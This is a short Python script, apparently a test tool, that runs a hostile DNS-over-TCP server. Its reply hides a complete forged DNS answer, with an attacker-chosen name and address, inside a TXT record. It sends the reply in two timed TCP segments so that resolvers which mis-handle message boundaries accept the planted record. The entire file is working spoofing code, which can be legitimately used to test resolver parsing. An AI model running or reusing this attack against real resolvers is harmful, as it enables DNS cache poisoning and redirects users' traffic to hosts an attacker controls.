#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A DNS-over-TCP resolver whose answer carries another answer inside it.

It answers the first query on TCP port 53 with a TXT record whose string
is a whole framed DNS message ("NAME A ADDR", two-byte length first),
and sends the answer in two segments, split where that string begins: a
reader that takes every segment as the start of a message reads the
planted answer, one that follows message boundaries reads a TXT record.

usage: dns_tcp_split.py LISTEN NAME ADDR"""
import socket
import struct
import sys
import time

from dns_spoof import answer


def main():
    listen, name, addr = sys.argv[1:4]
    planted = answer(0x4242, name, addr)
    planted = struct.pack("!H", len(planted)) + planted
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((listen, 53))
    srv.listen(1)
    conn, _ = srv.accept()
    conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    n = struct.unpack("!H", conn.recv(2))[0]
    query = b""
    while len(query) < n:
        query += conn.recv(n - len(query))
    # The question as asked; one TXT record holding the planted message.
    qend = 12
    while query[qend]:
        qend += 1 + query[qend]
    question = query[12:qend + 5]
    txt = bytes([len(planted)]) + planted
    msg = (query[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question +
           b"\xc0\x0c" + struct.pack("!HHIH", 16, 1, 60, len(txt)) + txt)
    stream = struct.pack("!H", len(msg)) + msg
    cut = len(stream) - len(planted)
    conn.sendall(stream[:cut])
    time.sleep(0.3)
    conn.sendall(stream[cut:])
    time.sleep(0.5)
    conn.close()


if __name__ == "__main__":
    main()
